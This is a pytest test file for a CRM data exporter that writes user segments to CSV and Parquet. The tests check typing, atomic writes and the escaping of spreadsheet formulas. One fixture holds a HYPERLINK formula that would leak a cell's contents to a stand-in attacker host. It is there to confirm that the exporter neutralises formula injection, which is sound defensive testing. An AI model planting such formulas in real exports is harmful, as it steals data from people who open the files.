"""What a CRM reads is typed, safe to open in a spreadsheet, and complete or not there."""

import csv
from datetime import UTC, datetime

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st

from tasteprint.profiling.errors import SettingsError
from tasteprint.profiling.models import Spend
from tasteprint.profiling.segmentation import SegmentConfig, segment
from tasteprint.profiling.segmentation.export import safe_cell, schema, user_rows, write_table

EVIL = '=HYPERLINK("http://evil.example?"&A1,"click")'


@pytest.fixture(scope="module")
def rows(population, make_user):
    profiles, vectors = population
    spend = (Spend(currency="EUR", purchases=2, total=-0.0, typical=12.5, capped_total=25.0),)
    odd = make_user(
        "-7", {EVIL: 0.9, "wine": 0.5}, 3.0, tone=-0.5, spend=spend, habit_hours=(21, 22)
    )
    everybody = [*profiles, odd]
    return user_rows(everybody, segment(everybody, vectors, SegmentConfig(resamples=2)))


def read(path, encoding="utf-8"):
    with path.open(encoding=encoding, newline="") as lines:
        return list(csv.DictReader(lines))


def test_a_row_for_each_user(rows, tmp_path):
    path = tmp_path / "new" / "users.csv"
    write_table(rows, path)
    found = read(path)
    assert [r["user_id"] for r in found][:2] == ["'-7", "brew00"]
    assert len(found) == 61
    assert all(r["segment_id"] in {"s1", "s2", "s3", "unassigned"} for r in found)
    assert datetime.fromisoformat(found[1]["as_of"]).tzinfo == UTC
    assert found[1]["spend_total"] == found[1]["tone"] == found[1]["mean_rating"] == ""
    assert sorted(p.name for p in path.parent.iterdir()) == ["users.csv"]


def test_no_cell_is_a_formula(rows, tmp_path):
    path = tmp_path / "users.csv"
    write_table(rows, path)
    odd = read(path)[0]
    assert odd["interest_1"] == f"'{EVIL}"
    assert odd["tone"] == "-0.5"  # a number is no text
    assert odd["habit_hours"] == "21;22"
    for row in read(path):
        for name, cell in row.items():
            number = name != "user_id" and cell.replace(".", "").lstrip("-").isdigit()
            assert number or not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)


@pytest.mark.parametrize(
    "text", ["=1", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1", "＝1", "＠x", "-7"]
)
def test_what_could_be_a_formula_gets_an_apostrophe(text):
    assert safe_cell(text) == f"'{text}"


@given(st.text(max_size=8))
def test_other_texts_stay(text):
    safe = safe_cell(text)
    assert safe.endswith(text)
    assert not safe.lstrip().startswith(tuple("=+-@＝＋－＠"))


def test_parquet_is_typed_and_keeps_texts_as_they_are(rows, tmp_path):
    path = tmp_path / "users.parquet"
    write_table(rows, path)
    found = pq.read_table(path)
    assert found.schema.equals(schema())
    odd = found.to_pylist()[0]
    assert (odd["user_id"], odd["interest_1"], odd["languages"]) == ("-7", EVIL, ["en"])
    assert odd["habit_hours"] == [21, 22]
    assert odd["as_of"].tzinfo is not None
    assert found["spend_typical"].type == pa.float64()
    assert found["spend_typical"].to_pylist()[:2] == [12.5, None]


def test_the_mark_only_where_it_is_asked_for(rows, tmp_path):
    for bom in (False, True):
        path = tmp_path / f"{bom}.csv"
        write_table(rows, path, bom=bom)
        assert path.read_bytes().startswith(b"\xef\xbb\xbf") == bom
    assert read(tmp_path / "True.csv", "utf-8-sig") == read(tmp_path / "False.csv")


def test_any_text_comes_back_from_csv(rows, tmp_path):
    row = rows[1] | {"segment": 'a "quoted", two-line\nname; 啤酒 🍺'}
    write_table([row], tmp_path / "one.csv")
    assert read(tmp_path / "one.csv")[0]["segment"] == row["segment"]


@pytest.mark.parametrize("name", ["users.csv", "users.parquet"])
def test_nothing_half_written(rows, tmp_path, name):
    path = tmp_path / name
    path.write_text("as it was")
    broken = [*rows, {"user_id": object()}]
    with pytest.raises((KeyError, pa.ArrowInvalid, pa.ArrowTypeError)):
        write_table(broken, path)
    assert path.read_text() == "as it was"
    assert [p.name for p in tmp_path.iterdir()] == [name]


def test_places_that_cannot_be_written(rows, tmp_path):
    with pytest.raises(SettingsError, match=r"ends in \.csv or \.parquet"):
        write_table(rows, tmp_path / "users.xlsx")
    (tmp_path / "file").write_text("")
    with pytest.raises(SettingsError, match="cannot be written"):
        write_table(rows, tmp_path / "file" / "users.csv")
    (tmp_path / "folder.csv").mkdir()
    with pytest.raises(SettingsError, match="cannot be written"):
        write_table(rows, tmp_path / "folder.csv")
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []
